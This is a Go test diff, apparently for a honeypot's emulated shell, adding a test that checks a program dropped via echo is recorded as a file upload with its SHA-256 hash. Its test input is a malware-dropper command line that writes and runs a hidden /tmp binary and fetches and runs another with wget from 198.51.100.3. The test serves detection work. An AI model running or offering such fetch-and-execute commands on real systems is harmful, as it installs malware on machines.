@@ -95,3 +95,32 @@ func TestLimit(t *testing.T) {
 		t.Errorf("type-ahead has limit %q", evs[0].Limit)
 	}
 }
+
+// A program written with echo and run becomes a file.upload (tool shell)
+// with its hash, after the line's command; one run from a fake download's
+// placeholder does not.
+func TestDroppedUpload(t *testing.T) {
+	dev, err := busybox.NewDevice(busybox.DefaultProfile(), busybox.DefaultLimits())
+	if err != nil {
+		t.Fatal(err)
+	}
+	sh := dev.NewShell(t.Context())
+	defer sh.Close()
+	line := `cd /tmp; echo -ne '\x7f\x45\x4c\x46\x01\x01\x01\x00\x00' > .s; chmod +x .s; ./.s; wget http://198.51.100.3/m -O m; chmod +x m; ./m`
+	r := sh.Run(line)
+	var ups []*event.Event
+	for _, e := range shellrec.Events(line, r, newEvent) {
+		if e.Kind == event.FileUpload {
+			ups = append(ups, e)
+		}
+	}
+	// sha256 of the nine bytes echoed: printf '\x7fELF\x01\x01\x01\x00\x00' | sha256sum
+	const want = "dce6aafc49cbb2fe280da382e0ab6900b26171c21db94b3e04af590edfee753d"
+	if len(ups) != 1 {
+		t.Fatalf("uploads %+v, want one", ups)
+	}
+	u := ups[0]
+	if string(u.Tool) != shellrec.DroppedTool || u.Filename != "/tmp/.s" || u.UploadSize != 9 || u.SHA256 != want {
+		t.Errorf("upload %+v", u)
+	}
+}
